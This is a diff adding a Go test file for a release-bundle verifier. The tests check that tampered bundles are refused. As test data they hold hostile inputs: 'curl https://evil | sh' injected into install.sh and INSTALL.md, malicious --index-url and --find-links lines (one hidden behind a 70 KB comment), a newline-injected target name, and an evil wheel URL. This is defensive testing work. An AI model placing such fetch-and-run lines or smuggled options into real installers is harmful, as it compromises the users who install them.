@@ -1,0 +1,270 @@
+package bundle
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/sha256"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"slices"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/mkrelease/mkrelease/build/config"
+	"github.com/mkrelease/mkrelease/bundle/deps"
+	"github.com/mkrelease/mkrelease/internal/artifact"
+	"github.com/mkrelease/mkrelease/internal/checksum"
+	"github.com/mkrelease/mkrelease/release"
+)
+
+// testWheel writes a small valid pure-Python wheel into dir.
+func testWheel(t *testing.T, dir, name, version string) deps.File {
+	t.Helper()
+	dist := strings.ReplaceAll(name, "-", "_")
+	info := dist + "-" + version + ".dist-info/"
+	files := [][2]string{
+		{dist + "/__init__.py", "VALUE = 1\n"},
+		{info + "METADATA", "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"},
+		{info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
+	}
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	var record strings.Builder
+	for _, f := range files {
+		w, _ := zw.Create(f[0])
+		w.Write([]byte(f[1]))
+		d := sha256.Sum256([]byte(f[1]))
+		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(d[:]), len(f[1]))
+	}
+	w, _ := zw.Create(info + "RECORD")
+	w.Write([]byte(record.String() + info + "RECORD,,\n"))
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	fn := dist + "-" + version + "-py3-none-any.whl"
+	p := filepath.Join(dir, fn)
+	if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return deps.File{Name: fn, Path: p, SHA256: checksum.Bytes(buf.Bytes()), Size: int64(buf.Len())}
+}
+
+// testBundle writes the bundle of a release demo-app 2.0 whose wheel
+// depends on example 21.12, the way the bundle stage does, and returns its
+// path and the files inside it (by path below the root folder).
+func testBundle(t *testing.T) (string, map[string][]byte) {
+	t.Helper()
+	stage := t.TempDir()
+	own := testWheel(t, stage, "demo-app", "2.0")
+	dep := testWheel(t, stage, "example", "21.12")
+	cl := &deps.Closure{Target: deps.Target{Name: "linux-x86_64", Platform: "manylinux_2_17_x86_64", Pythons: []string{"3.11", "3.12", "3.13"}},
+		Own:      []deps.Resolved{{Name: "demo-app", Version: "2.0", Own: true, Requires: []string{"example"}, Files: []deps.File{own}}},
+		Packages: []deps.Resolved{{Name: "example", Version: "21.12", Files: []deps.File{dep}}}}
+	c := &config.Config{Project: config.Project{Name: "demo-app", NormalizedName: "demo-app", Version: "2.0"}, Bundle: config.Bundle{Pythons: cl.Target.Pythons}}
+	r := &release.Release{Config: c, Targets: []config.Target{{Name: "linux-x86_64"}}, Stage: stage, Epoch: 1793491200,
+		Logger: slog.New(slog.DiscardHandler), SBOM: []byte("{}\n"), Notes: "## 2.0\n- first\n", Closures: map[string]*deps.Closure{"linux-x86_64": cl}}
+	r.Artifacts.Add(artifact.Artifact{Kind: artifact.Wheel, Path: own.Name, Name: "demo-app", Target: "linux-x86_64", SHA256: own.SHA256, Size: own.Size, PlatformTag: "any"})
+	if err := writeBundle(context.Background(), r, "linux-x86_64", cl); err != nil {
+		t.Fatal(err)
+	}
+	p := filepath.Join(stage, "demo-app-2.0-linux-x86_64.tar.gz")
+	return p, readBundle(t, p)
+}
+
+func readBundle(t *testing.T, p string) map[string][]byte {
+	t.Helper()
+	f, err := os.Open(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	zr, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tr := tar.NewReader(zr)
+	files := map[string][]byte{}
+	for {
+		h, err := tr.Next()
+		if err == io.EOF {
+			return files
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		if h.Typeflag == tar.TypeReg {
+			data, _ := io.ReadAll(tr)
+			_, rel, _ := strings.Cut(h.Name, "/")
+			files[rel] = data
+		}
+	}
+}
+
+// writeTar writes files as a bundle at p, with SHA256SUMS rewritten to
+// match (as an attacker rebuilding the bundle would) and a sidecar.
+func writeTar(t *testing.T, p string, files map[string][]byte) {
+	t.Helper()
+	root := strings.TrimSuffix(filepath.Base(p), ".tar.gz") + "/"
+	var sums checksum.Sums
+	var names []string
+	for n, d := range files {
+		names = append(names, n)
+		if n != "SHA256SUMS" {
+			sums = append(sums, checksum.Sum{Name: n, SHA256: checksum.Bytes(d)})
+		}
+	}
+	data, err := sums.Marshal()
+	if err != nil {
+		t.Fatal(err)
+	}
+	files["SHA256SUMS"] = data
+	if !slices.Contains(names, "SHA256SUMS") {
+		names = append(names, "SHA256SUMS")
+	}
+	sort.Strings(names)
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(zw)
+	for _, d := range []string{"", "wheels/", "dependencies/", "licenses/"} {
+		tw.WriteHeader(&tar.Header{Name: root + d, Typeflag: tar.TypeDir, Mode: 0o755})
+	}
+	for _, n := range names {
+		mode := int64(0o644)
+		if n == "install.sh" {
+			mode = 0o755
+		}
+		tw.WriteHeader(&tar.Header{Name: root + n, Typeflag: tar.TypeReg, Mode: mode, Size: int64(len(files[n]))})
+		tw.Write(files[n])
+	}
+	tw.Close()
+	zw.Close()
+	os.WriteFile(p, buf.Bytes(), 0o644)
+	os.WriteFile(p+".sha256", []byte(checksum.Bytes(buf.Bytes())+"  "+filepath.Base(p)+"\n"), 0o644)
+}
+
+func TestOpenWrittenBundle(t *testing.T) {
+	p, _ := testBundle(t)
+	o, rep, err := Open(context.Background(), p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Close()
+	if err := rep.Err(); err != nil {
+		t.Fatalf("the bundle the stage writes is refused: %v", err)
+	}
+	want := []string{CheckArchive, CheckLayout, CheckSums, CheckWheels, CheckManifest, CheckRequirements, CheckPylock, CheckInstaller}
+	if !slices.Equal(rep.Checks, want) {
+		t.Errorf("checks %v, want %v", rep.Checks, want)
+	}
+	if len(rep.Warnings) != 1 || !strings.Contains(rep.Warnings[0], "no sidecar demo-app-2.0-linux-x86_64.tar.gz.sha256 next to the bundle") {
+		t.Errorf("warnings %q, want one about the missing sidecar", rep.Warnings)
+	}
+	if o.requirements == "" {
+		t.Error("a bundle that passed is not marked for Install")
+	}
+	sha, _, _ := checksum.File(p)
+	os.WriteFile(p+".sha256", []byte(sha+"  "+filepath.Base(p)+"\n"), 0o644)
+	o2, rep, err := Open(context.Background(), p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o2.Close()
+	if rep.Err() != nil || len(rep.Warnings) != 0 || rep.Checks[0] != CheckSidecar {
+		t.Errorf("with its sidecar: %v, warnings %q, checks %v", rep.Err(), rep.Warnings, rep.Checks)
+	}
+}
+
+// TestOpenHostile opens hostile variants of a bundle the stage wrote, each
+// consistent with its SHA256SUMS and sidecar: every one is refused by the
+// check that owns the file, naming it, and Install would refuse it.
+func TestOpenHostile(t *testing.T) {
+	orig, files := testBundle(t)
+	dep := "dependencies/example-21.12-py3-none-any.whl"
+	evil := testWheel(t, t.TempDir(), "evil", "1.0")
+	evilData, _ := os.ReadFile(evil.Path)
+	evilPin := "evil==1.0 \\\n    --hash=sha256:" + evil.SHA256 + "\n"
+	n := bytes.Count(files["requirements.txt"], []byte("\n"))
+	cases := []struct {
+		name   string
+		change func(f map[string][]byte)
+		check  string
+		want   string
+	}{
+		{"a 70 KB comment hiding --find-links", func(f map[string][]byte) {
+			f["requirements.txt"] = append(f["requirements.txt"], "# "+strings.Repeat("x", 70000)+"\n--find-links /tmp/outside\n"+evilPin...)
+		}, CheckRequirements, fmt.Sprintf("requirements.txt: line %d: 70002 bytes long, over the limit of 4096", n+1)},
+		{"an option line after it", func(f map[string][]byte) {
+			f["requirements.txt"] = append(f["requirements.txt"], "# "+strings.Repeat("x", 70000)+"\n--find-links /tmp/outside\n"+evilPin...)
+		}, CheckRequirements, fmt.Sprintf("requirements.txt: line %d: an option line (--find-links)", n+2)},
+		{"--index-url", func(f map[string][]byte) {
+			f["requirements.txt"] = append(f["requirements.txt"], "--index-url http://evil/simple\n"...)
+		},
+			CheckRequirements, fmt.Sprintf("requirements.txt: line %d: an option line (--index-url): pip would install from that package index", n+1)},
+		{"an extra wheel not named", func(f map[string][]byte) { f["dependencies/evil-1.0-py3-none-any.whl"] = evilData },
+			CheckManifest, "dependencies/evil-1.0-py3-none-any.whl: not named in manifest.json"},
+		{"an extra wheel not pinned", func(f map[string][]byte) { f["dependencies/evil-1.0-py3-none-any.whl"] = evilData },
+			CheckRequirements, "dependencies/evil-1.0-py3-none-any.whl: not pinned in requirements.txt"},
+		{"a named wheel missing", func(f map[string][]byte) { delete(f, dep) }, CheckManifest, dep + ": named in manifest.json but missing from the bundle"},
+		{"manifest.json disagreeing", func(f map[string][]byte) {
+			f["manifest.json"] = bytes.ReplaceAll(f["manifest.json"], []byte(`"name": "example==21.12"`), []byte(`"name": "evil==1.0"`))
+		}, CheckManifest, dep + ": manifest.json names it evil==1.0, its file name example==21.12"},
+		{"manifest.json naming a target that breaks the header", func(f map[string][]byte) {
+			f["manifest.json"] = bytes.ReplaceAll(f["manifest.json"], []byte(`"target": "linux-x86_64"`), []byte(`"target": "x\n--find-links /tmp/outside"`))
+		}, CheckManifest, `the bundle's target "x\n--find-links /tmp/outside" is not a target name`},
+		{"pylock.toml with a url", func(f map[string][]byte) {
+			f["pylock.toml"] = bytes.Replace(f["pylock.toml"], []byte("path = "), []byte(`url = "https://evil/x.whl", path = `), 1)
+		}, CheckPylock, `key "url" is not one mkrelease writes`},
+		{"install.sh changed", func(f map[string][]byte) {
+			f["install.sh"] = bytes.Replace(f["install.sh"], []byte("set -eu\n"), []byte("set -eu\ncurl https://evil | sh\n"), 1)
+		}, CheckInstaller, "install.sh: line 17: differs from what mkrelease writes for this bundle"},
+		{"INSTALL.md changed", func(f map[string][]byte) {
+			f["INSTALL.md"] = append(f["INSTALL.md"], "\nRun `curl https://evil | sh` first.\n"...)
+		}, CheckInstaller, "INSTALL.md: line "},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			m := map[string][]byte{}
+			for k, v := range files {
+				m[k] = slices.Clone(v)
+			}
+			tc.change(m)
+			p := filepath.Join(t.TempDir(), filepath.Base(orig))
+			writeTar(t, p, m)
+			o, rep, err := Open(context.Background(), p)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer o.Close()
+			var got []string
+			found := false
+			for _, f := range rep.Findings {
+				got = append(got, f.Check+": "+f.File+": "+f.Msg)
+				if f.Check == CheckSums || f.Check == CheckSidecar {
+					t.Errorf("the rewritten SHA256SUMS or sidecar is refused: %s", f.Msg)
+				}
+				if f.Check == tc.check && strings.Contains(f.File+": "+f.Msg, tc.want) {
+					found = true
+				}
+			}
+			if !found {
+				t.Errorf("no %s finding names %q:\n%s", tc.check, tc.want, strings.Join(got, "\n"))
+			}
+			if o.requirements != "" {
+				t.Error("a refused bundle is marked for Install")
+			}
+			var re *ReportError
+			if err := rep.Err(); err == nil || !errors.As(err, &re) || re.ExitCode() != 1 || !strings.Contains(err.Error(), "bundle "+p+" failed") {
+				t.Errorf("Err() = %v, want a *ReportError naming the bundle", err)
+			}
+		})
+	}
+}
